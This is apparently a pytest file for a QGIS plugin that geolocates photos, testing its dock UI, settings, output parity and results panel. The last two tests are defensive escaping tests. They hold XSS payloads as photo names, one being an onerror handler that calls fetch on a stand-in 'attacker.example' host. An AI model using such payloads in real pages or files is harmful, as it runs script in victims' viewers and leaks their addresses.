    settings.setValue("geoclip_qgis/clip", str(tmp_path / "usb-stick" / "clip"))
    try:
        failed = run_dock(dock, [photo_dir / "kauai.png"], out=tmp_path / "f.gpkg")
    finally:
        settings.setValue("geoclip_qgis/clip", previous)
    assert failed.error and "--clip" in failed.detail and "Looked in" in failed.detail  # the engine's own words
    assert failed.error.startswith("The CLIP ViT-L/14 backbone, which turns photos into features, was not found.")
    assert f"The folder {tmp_path / 'usb-stick' / 'clip'} cannot be used: no such folder." in failed.error
    assert "Import folder…" in failed.error and "--clip" not in failed.error  # the fix, with the dialog's buttons
    notice = bar.currentItem()
    assert notice.text() == "The CLIP ViT-L/14 backbone, which turns photos into features, was not found."
    assert [b.text() for b in notice.findChildren(QPushButton) if b.text()] == ["Details", "Models…"]
    assert any("Looked in" in message and "Import folder…" in message for message in logged)  # all of it, logged
    dock.refresh_model_state()
    ok = run_dock(dock, [photo_dir / "kauai.png"], out=tmp_path / "g.gpkg")
    assert not ok.error
    assert notice not in bar.items()  # the old failure is gone


def test_dock_layout_labels_and_fit(plugin, photo_dir, tmp_path):
    from qgis.PyQt.QtWidgets import QFormLayout, QLabel, QScrollArea

    from geoclip_qgis.core.plain_text import tooltip

    dock = plugin.dock
    # every tab scrolls on its own; Run, Cancel and progress stay below them
    assert [dock.tabs.tabText(i) for i in range(dock.tabs.count())] == ["Input", "Options", "Results"]
    assert all(isinstance(dock.tabs.widget(i), QScrollArea) for i in range(3))
    assert dock.widget().minimumSizeHint().height() < 400  # fits a 768-pixel screen beside other panels
    # every dropdown has its label
    for combo, label in (
        (dock.layer_combo, "Photo layer"),
        (dock.field_combo, "Photo path field"),
        (dock.area_layer, "Polygon layer"),
    ):
        form = combo.parentWidget().layout()
        assert isinstance(form, QFormLayout) and form.labelForField(combo).text() == label
    # the polygon layer only with "Selected polygons"; per-photo world rasters only with rasters
    dock.area_combo.setCurrentIndex(dock.area_combo.findData("world"))
    assert dock.area_layer.isHidden() and dock.area_layer_label.isHidden()
    dock.area_combo.setCurrentIndex(dock.area_combo.findData("polygons"))
    assert not dock.area_layer.isHidden() and not dock.area_layer_label.isHidden()
    dock.area_combo.setCurrentIndex(dock.area_combo.findData("world"))
    dock.rasters_check.setChecked(False)
    assert not dock.world_per_photo.isEnabled()
    dock.rasters_check.setChecked(True)
    assert dock.world_per_photo.isEnabled()
    # photos by name (path in the tooltip); a folder with the number of photos in it
    dock.clear_paths()
    dock.add_paths([str(photo_dir / "kauai.png"), str(photo_dir)])
    wait_for(lambda: dock.photo_list.total() is not None, 60)
    first, folder = dock.photo_list.item(0), dock.photo_list.item(1)
    assert first.text() == "kauai.png" and first.toolTip() == tooltip(str(photo_dir / "kauai.png"))
    assert folder.text() == "photos/ — 4 photos" and folder.toolTip() == tooltip(str(photo_dir))
    assert dock.count_label.text() == "1 photo, 1 folder: 5 photos to answer"
    assert dock.paths() == [str(photo_dir / "kauai.png"), str(photo_dir)]
    assert isinstance(dock.status, QLabel) and dock.status.wordWrap()


def test_choices_survive_a_restart_and_the_dock_reopens(plugin, monkeypatch, tmp_path):
    from qgis_support import StandInInterface

    from geoclip_qgis.core.session import load_dock_settings, runs_folder
    from geoclip_qgis.plugin import GeoCLIPPlugin
    from geoclip_qgis.ui.dock import GeoCLIPDock

    dock = plugin.dock
    dock.top_k.setValue(7)
    dock.rasters_check.setChecked(True)
    dock.world_per_photo.setChecked(True)
    dock.area_combo.setCurrentIndex(dock.area_combo.findData("extent"))
    dock.output.setFilePath(str(tmp_path / "kept" / "answers.gpkg"))
    again = GeoCLIPDock(plugin.iface)  # what QGIS builds next time
    assert again.top_k.value() == 7 and again.rasters_check.isChecked() and again.world_per_photo.isChecked()
    assert again.area_combo.currentData() == "extent"
    assert again.output_folder() == tmp_path / "kept" and again.output.filePath() == ""
    assert again.default_output().startswith(str(tmp_path / "kept"))
    # the dock was open: a new QGIS session opens it again
    assert load_dock_settings().dock_open
    monkeypatch.setattr(GeoCLIPPlugin, "initProcessing", lambda self: None)  # the provider is there already
    restarted = GeoCLIPPlugin(StandInInterface())
    restarted.initGui()
    try:
        assert restarted.dock is not None and not restarted.dock.isHidden()
    finally:
        restarted.unload()
    assert load_dock_settings().dock_open  # closing QGIS is not closing the dock
    # an unsaved project without a chosen folder: the user data folder, not a temporary one
    again._output_folder = ""
    assert again.output_folder() == runs_folder() and ".local/share/geoclip-qgis" in str(runs_folder())
    dock.area_combo.setCurrentIndex(dock.area_combo.findData("world"))
    dock.top_k.setValue(5)
    dock.world_per_photo.setChecked(False)
    dock.rasters_check.setChecked(False)


def test_cli_dock_and_processing_write_the_same_files(plugin, photo_dir, tiny_clip, tmp_path):
    """The three doors run one pipeline: same layers, same rows, same raster names, same loaded layers."""
    import processing
    from osgeo import ogr
    from qgis.core import QgsProject
    from test_cli import run

    def contents(gpkg: Path) -> dict:
        source = ogr.Open(str(gpkg))
        found = {}
        for index in range(source.GetLayerCount()):
            layer = source.GetLayerByIndex(index)
            rows = []
            for feature in layer:
                row = feature.items()
                for key in ("run_at",):
                    row.pop(key, None)
                rows.append(tuple(sorted((k, round(v, 6) if isinstance(v, float) else v) for k, v in row.items())))
            found[layer.GetName()] = sorted(rows, key=repr)
        return found

    def rasters(folder: Path) -> list[str]:
        return sorted(p.name for p in folder.iterdir())

    cli = tmp_path / "cli" / "answers.gpkg"
    run(
        "predict",
        photo_dir,
        "--clip",
        tiny_clip,
        "--device",
        "cpu",
        "--precision",
        "bf16",
        "--top-k",
        3,
        "--fuse",
        "--out",
        cli,
        "--rasters",
        tmp_path / "cli" / "answers_rasters",
    )

    dock_out = tmp_path / "dock" / "answers.gpkg"
    result = run_dock(plugin.dock, [photo_dir], out=dock_out, rasters=True, fuse=True, top_k=3)
    assert not result.error
    dock_layers = sorted(layer.name() for layer in QgsProject.instance().mapLayers().values())

    QgsProject.instance().removeAllMapLayers()
    proc_out = tmp_path / "processing" / "answers.gpkg"
    outputs = processing.runAndLoadResults(
        "geoclip:geolocate_photos",
        {"FOLDER": str(photo_dir), "TOP_K": 3, "RASTERS": True, "FUSE": True, "DEVICE": 1, "OUTPUT": str(proc_out)},
    )
    proc_layers = sorted(layer.name() for layer in QgsProject.instance().mapLayers().values())

    expected = contents(cli)
    assert set(expected) >= {"predictions", "truth_lines", "accuracy"}
    assert len(expected["predictions"]) == 3 * 5  # four photos and the joint answer, three candidates each
    for other in (dock_out, proc_out):
        got = contents(other)
        assert set(got) == set(expected)
        for name in ("predictions", "truth_lines", "errors"):
            assert got.get(name) == expected.get(name), name
    names = rasters(tmp_path / "cli" / "answers_rasters")
    assert "all_answers_world.tif" in names and any(n.startswith("fused_4_photos_world") for n in names)
    assert rasters(tmp_path / "dock" / "answers_rasters") == names
    assert rasters(tmp_path / "processing" / "answers_rasters") == names
    assert dock_layers == proc_layers
    assert "GeoCLIP answers" in proc_layers and "EXIF truth → top-1" in proc_layers
    assert outputs["ANSWERED"] == 4 and outputs["RASTER_FOLDER"] == str(tmp_path / "processing" / "answers_rasters")


def test_confidence_areas_time_direction_and_the_results_panel(plugin, samples, skimage_data, tmp_path):
    """A run with confidence areas: outlined areas in the run's group, answers that play by EXIF time,
    an arrow where EXIF says where the camera faced, and the results panel on the run's file."""
    from PIL import ExifTags, Image
    from qgis.core import QgsRuleBasedRenderer
    from test_batch import with_gps

    gps = ExifTags.GPS
    facing = with_gps(
        skimage_data / "coffee.png",
        tmp_path / "facing.jpg",
        {
            gps.GPSLatitudeRef: "N",
            gps.GPSLatitude: (48.0, 51.0, 0.0),
            gps.GPSLongitudeRef: "E",
            gps.GPSLongitude: (2.0, 21.0, 0.0),
            gps.GPSImgDirectionRef: "T",
            gps.GPSImgDirection: 135.0,
        },
    )
    with Image.open(facing) as image:
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo)[gps.GPSImgDirection] == 135.0
    out = tmp_path / "judged.gpkg"
    result = run_dock(plugin.dock, [samples / "gps" / "DSCN0010.jpg", facing], out=out, confidence=True, top_k=3)
    assert not result.error
    layers = plugin.dock.last_layers
    group = layers["group"]
    areas = [n.layer() for n in group.findLayers() if n.layer().name().startswith("Confidence areas")]
    assert len(areas) == 1 and areas[0].featureCount() == 4  # 50 % and 90 % for each photo
    rules = {r.label(): r for r in areas[0].renderer().rootRule().children()}
    assert set(rules) == {"50 % confidence area", "90 % confidence area"}
    assert all(r.symbol().symbolLayer(0).brushStyle() == 0 for r in rules.values())  # outlines, no fill
    points = layers["points"]
    assert points.temporalProperties().isActive()  # DSCN0010 has an EXIF time
    labels = [r.label() for r in points.renderer().rootRule().children()]
    assert "camera direction (EXIF)" in labels
    assert isinstance(points.renderer(), QgsRuleBasedRenderer)

    assert plugin.dock.judge_button.isEnabled()
    plugin.dock.judge_button.click()
    panel = plugin.results
    assert panel is not None and panel in plugin.iface.docks and not panel.isHidden()
    assert panel.list.count() == 2 and panel.gpkg == str(out)
    panel.list.setCurrentRow(1)
    assert "Facing 135°" in panel.info.text() and "confidence area" in panel.info.text()
    panel.only_button.setChecked(True)
    assert {f["photo"] for f in points.getFeatures()} == {str(facing)}
    assert {f["photo"] for f in areas[0].getFeatures()} == {str(facing)}
    panel.only_button.setChecked(False)
    assert points.featureCount() == 6


START_WITH_DOCK_OPEN = r"""
import sys
sys.path.insert(0, sys.argv[1])
from qgis_support import StandInInterface, qgis_app

qgis_app()
from qgis.core import QgsSettings

QgsSettings().setValue("geoclip_qgis/dock/dock_open", True)  # open when QGIS last closed
import geoclip_qgis

plugin = geoclip_qgis.classFactory(StandInInterface())
plugin.initGui()
dock = plugin.dock
print("AT START", dock is not None and plugin.action.isChecked(), "torch" in sys.modules, dock.device_combo.count())
dock.tabs.setCurrentIndex(1)  # the Options tab, where the device is picked
print("OPTIONS", "torch" in sys.modules, dock.device_combo.count() >= 2)
plugin.unload()
QgsSettings().setValue("geoclip_qgis/dock/dock_open", False)
"""


def test_qgis_starts_without_torch_even_with_the_dock_open(tmp_path):
    """torch costs a second or more to import: QGIS's start must not wait for it, not even when the
    dock reopens itself; it is imported when the device list is wanted."""
    env = dict(os.environ, QT_QPA_PLATFORM="offscreen", HOME=str(tmp_path))
    out = subprocess.run(
        [sys.executable, "-c", START_WITH_DOCK_OPEN, str(ROOT / "tests")],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert out.returncode == 0, out.stderr[-3000:]
    lines = {line.split()[0]: line.split()[1:] for line in out.stdout.splitlines() if line[:2] in ("AT", "OP")}
    assert lines["AT"] == ["START", "True", "False", "2"]  # dock shown, no torch, Automatic + CPU
    assert lines["OPTIONS"] == ["True", "True"]


def test_a_reopened_project_brings_its_runs_back(plugin, photo_dir, tmp_path):
    """Layers come back with a saved project, and so does the run: the dock's Results and the panel."""
    from qgis.core import QgsProject

    dock = plugin.dock
    run_dock(dock, [photo_dir / "kauai.png"], out=tmp_path / "saved.gpkg", top_k=2)
    project = QgsProject.instance()
    assert project.write(str(tmp_path / "case.qgs"))
    project.clear()
    assert dock.summary.text() == "No run yet." and not dock.judge_button.isEnabled()
    plugin.show_results("")
    assert plugin.results.source.text() == "No run loaded"
    assert project.read(str(tmp_path / "case.qgs"))
    assert "saved.gpkg" in dock.summary.text() and dock.judge_button.isEnabled()
    assert "saved.gpkg" in plugin.results.source.text() and len(plugin.results.answers) == 1
    extent = plugin.iface.canvas.extent()  # the answer is shown on the Earth, not off it
    assert -180 <= extent.center().x() <= 180 and -90 <= extent.center().y() <= 90


def test_file_dialogs_never_open_in_the_hidden_runs_folder(plugin, tmp_path):
    from qgis.core import QgsProject

    from geoclip_qgis.core.session import dialog_folder, runs_folder

    QgsProject.instance().clear()
    inside = runs_folder() / "holiday_20261202.gpkg"
    assert dialog_folder(str(inside)) != str(runs_folder()) and Path(dialog_folder(str(inside))).is_dir()
    (tmp_path / "case").mkdir()
    assert dialog_folder(str(tmp_path / "case" / "run.gpkg")) == str(tmp_path / "case")  # beside a run of the user's


def test_a_photo_named_like_markup_stays_text_in_the_map_tip(plugin):
    """QGIS 3.22 renders map tips in QtWebKit with JavaScript on: a photo's name must not become a tag
    (an <img onerror=…> that runs, or a remote image that reveals the analyst's address)."""
    from qgis.core import QgsExpression, QgsExpressionContext, QgsFeature, QgsField, QgsFields
    from qgis.PyQt.QtCore import QVariant

    from geoclip_qgis.map.styles import map_tip

    for with_kind in (True, False):  # a run's layer, and one written before the kind column existed
        fields = QgsFields()
        for name, kind in (("photo", QVariant.String), ("rank", QVariant.Int), ("probability", QVariant.Double)):
            fields.append(QgsField(name, kind))
        fields.append(QgsField("error_km", QVariant.Double))
        if with_kind:
            fields.append(QgsField("kind", QVariant.String))
        feature = QgsFeature(fields)
        feature["photo"] = "/case/<img src=x onerror=fetch('//attacker.example')>\"'.png"
        feature["rank"], feature["probability"] = 1, 0.5
        if with_kind:
            feature["kind"] = "photo"
        context = QgsExpressionContext()
        context.setFields(fields)
        context.setFeature(feature)
        tip = QgsExpression.replaceExpressionText(map_tip(with_kind), context)
        assert tip.count("<img") == 1 and "onerror" not in tip.split("<img")[1].split('"')[2]  # only our own tag
        assert "&lt;img src=x onerror=fetch(&#39;//attacker.example&#39;)&gt;&quot;&#39;.png" in tip


def test_message_boxes_and_the_bar_quote_errors_as_text(plugin):
    """Errors quote file names and what received files hold: a message box shows them as plain text, the
    message bar (HTML) gets them escaped."""
    from qgis.PyQt.QtCore import Qt, QTimer
    from qgis.PyQt.QtWidgets import QApplication

    from geoclip_qgis.core.plain_text import bar_text, show_message

    seen = []

    def look():
        box = QApplication.activeModalWidget()
        seen.append((box.textFormat(), box.text()))
        box.accept()

    QTimer.singleShot(100, look)
    show_message(None, "GeoCLIP", "cannot read <img src=x onerror=alert(1)>.jpg", warning=True)
    assert seen == [(Qt.TextFormat.PlainText, "cannot read <img src=x onerror=alert(1)>.jpg")]
    assert bar_text("<a href='x'>run</a>.gpkg") == "&lt;a href='x'&gt;run&lt;/a&gt;.gpkg"
